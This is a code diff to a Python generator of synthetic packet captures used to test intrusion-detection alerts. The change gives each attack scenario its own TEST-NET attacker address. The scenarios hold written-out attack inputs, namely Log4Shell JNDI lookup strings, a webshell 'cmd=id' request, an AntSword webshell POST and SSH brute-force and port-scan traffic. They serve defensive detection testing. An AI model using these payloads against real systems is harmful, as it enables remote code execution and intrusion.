@@ -50,7 +50,12 @@ LINKTYPE_ETHERNET = 1
 TENANT_IDS = {"unassigned": 0, "acme": 101, "globex": 102, "initech": 103, "umbrella": 104, "hooli": 105}
 
 # Addresses: TEST-NET-2/3 (RFC 5737) play the Internet, so nothing here is anybody's real host.
-ATTACKER = "203.0.113.200"
+# One attacker address per scenario: by_src thresholds never mix scenarios, even when sample.pcap is
+# replayed at line rate with fresh timestamps (the live-capture tests do that).
+ATTACKERS = {"scan": "203.0.113.201", "ssh": "203.0.113.202", "log4shell": "203.0.113.203",
+             "webshell": "203.0.113.204", "fragments": "203.0.113.205", "malformed": "203.0.113.206",
+             "applayer": "203.0.113.207"}
+ATTACKER = "203.0.113.200"  # the bench capture's attacker (tests/bench/gen_bench.py)
 C2_SERVER = "203.0.113.66"
 POOL_STRATUM = "203.0.113.50"
 POOL_XMRIG = "203.0.113.51"
@@ -429,7 +434,7 @@ def scen_tenants(cap, ports):
 def scen_scan(cap, ports):
     """An nmap-style SYN scan of one hooli host: window 1024, no options, RST from closed ports."""
     net = NETS["hooli"]
-    scanner, target = ATTACKER, "10.50.2.10"
+    scanner, target = ATTACKERS["scan"], "10.50.2.10"
     open_ports = {22, 80, 443}
     probe_ports = list(range(1, 101))
     cap.rng.shuffle(probe_ports)
@@ -489,7 +494,7 @@ def scen_sqli(cap, ports):
 
 def scen_log4shell(cap, ports):
     net = NETS["globex"]
-    cli, srv = ATTACKER, "10.0.0.90"
+    cli, srv = ATTACKERS["log4shell"], "10.0.0.90"
     alerts = []
     cases = [
         (http_get("/", "portal.globex.example", ua="${jndi:ldap://%s:1389/Exploit}" % JNDI_HOST), 9100201,
@@ -515,7 +520,7 @@ def scen_log4shell(cap, ports):
 
 def scen_webshell(cap, ports):
     net = NETS["umbrella"]
-    cli, srv = ATTACKER, "10.200.0.80"
+    cli, srv = ATTACKERS["webshell"], "10.200.0.80"
     alerts = []
     sport = http_exchange(cap, net, ports, cli, srv, http_get("/uploads/avatar.php?cmd=id", "www.umbrella.example"),
                           http_response("uid=33(www-data) gid=33(www-data) groups=33(www-data)\n",
@@ -581,7 +586,7 @@ def scen_ssh_bruteforce(cap, ports):
     for i in range(12):
         sport = ports()
         attempts.append(sport)
-        s = TcpSession(cap, net, ATTACKER, srv, sport, 22)
+        s = TcpSession(cap, net, ATTACKERS["ssh"], srv, sport, 22)
         s.open(dt=2.0)
         s.send(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", from_client=False)
         s.send(b"SSH-2.0-libssh2_1.10.0\r\n")
@@ -592,7 +597,7 @@ def scen_ssh_bruteforce(cap, ports):
     # detection_filter count 5 / 60 s: attempts 6..12 alert.
     return {"description": "SSH brute force: 12 short connections in 24 s from one address to an initech host",
             "attempt_ports": attempts,
-            "alerts": [expect(9100501, "initech", ATTACKER, srv, 22, count=7, sports=attempts[5:], net=net,
+            "alerts": [expect(9100501, "initech", ATTACKERS["ssh"], srv, 22, count=7, sports=attempts[5:], net=net,
                               note="connections 6..12 within 60 s")]}
 
 
@@ -721,8 +726,8 @@ def scen_fragments(cap, ports):
         return http_get("/" + "a" * pad, "intranet.initech.example", ua="${jndi:ldap://%s:1389/Frag}" % JNDI_HOST)
 
     net = NETS["initech"]
-    sport, n4 = _fragmented_request(cap, net, ATTACKER, "10.100.0.80", 80, req, b"${jndi:", ports)
-    alerts.append(expect(9100201, "initech", ATTACKER, "10.100.0.80", 80, sport=sport, net=net,
+    sport, n4 = _fragmented_request(cap, net, ATTACKERS["fragments"], "10.100.0.80", 80, req, b"${jndi:", ports)
+    alerts.append(expect(9100201, "initech", ATTACKERS["fragments"], "10.100.0.80", 80, sport=sport, net=net,
                          note="IPv4 fragments (VLAN 100) cut inside ${jndi:"))
     net = NETS["hooli"]
     sport, n6 = _fragmented_request(cap, net, "2001:db8:bad::66", "fd00:50::80", 80, req, b"${jndi:", ports)
@@ -813,17 +818,17 @@ def scen_applayer(cap, ports):
     """Traffic that only the app-layer rules of the pack can see (needs HTTP/DNS/TLS parsing, issue 3)."""
     alerts = []
     net = NETS["globex"]
-    sport = http_exchange(cap, net, ports, ATTACKER, "10.0.0.91",
+    sport = http_exchange(cap, net, ports, ATTACKERS["applayer"], "10.0.0.91",
                           http_get("/$%%7Bjndi:ldap:/%s:1389/a%%7D/index.jsp" % JNDI_HOST, "api.globex.example"),
                           dport=8080, dt=0.5)
-    alerts.append(expect(9100204, "globex", ATTACKER, "10.0.0.91", 8080, sport=sport, net=net, app_proto="http",
+    alerts.append(expect(9100204, "globex", ATTACKERS["applayer"], "10.0.0.91", 8080, sport=sport, net=net, app_proto="http",
                          note="JNDI lookup visible only after URL decoding"))
     net = NETS["umbrella"]
-    sport = http_exchange(cap, net, ports, ATTACKER, "10.200.0.80",
+    sport = http_exchange(cap, net, ports, ATTACKERS["applayer"], "10.200.0.80",
                           http_post("/upload/x.php", "www.umbrella.example",
                                     "ant=%40ini_set(%22display_errors%22%2C%20%220%22)%3B%40set_time_limit(0)%3B",
                                     ua="antSword/v2.1"), dt=0.5)
-    alerts.append(expect(9100304, "umbrella", ATTACKER, "10.200.0.80", 80, sport=sport, net=net, app_proto="http",
+    alerts.append(expect(9100304, "umbrella", ATTACKERS["applayer"], "10.200.0.80", 80, sport=sport, net=net, app_proto="http",
                          note="AntSword web shell manager User-Agent"))
     net = NETS["hooli"]
     sport = ports()
@@ -874,7 +879,7 @@ def scen_malformed(cap, ports):
     # Too short to be VXLAN, so it is an ordinary UDP datagram of an unassigned flow.
     cap.flow("unassigned", 17, "172.31.0.11", 50001, "172.31.0.12", 4789)
     net = NETS["hooli"]
-    sport = http_exchange(cap, net, ports, ATTACKER, "10.50.9.2",
+    sport = http_exchange(cap, net, ports, ATTACKERS["malformed"], "10.50.9.2",
                           http_get("/", "www.hooli.example", ua="${jndi:ldap://%s/after-malformed}" % JNDI_HOST), dt=0.5)
     return {"description": "Malformed frames (truncated IPv4, bad IHL, truncated TCP, VXLAN with a truncated inner "
                            "frame or header) followed by a Log4Shell request that must still alert",
@@ -883,7 +888,7 @@ def scen_malformed(cap, ports):
             # datagram too short to be VXLAN is not VXLAN at all and stays plain UDP (no error).
             "decode_errors": {"ipv4_truncated": 2, "ipv4_bad_hlen": 3, "tcp_truncated": 2, "link_truncated": 2},
             "malformed_frames": 10,
-            "alerts": [expect(9100201, "hooli", ATTACKER, "10.50.9.2", 80, sport=sport, net=net,
+            "alerts": [expect(9100201, "hooli", ATTACKERS["malformed"], "10.50.9.2", 80, sport=sport, net=net,
                               note="processing continues after malformed frames")]}
 
 
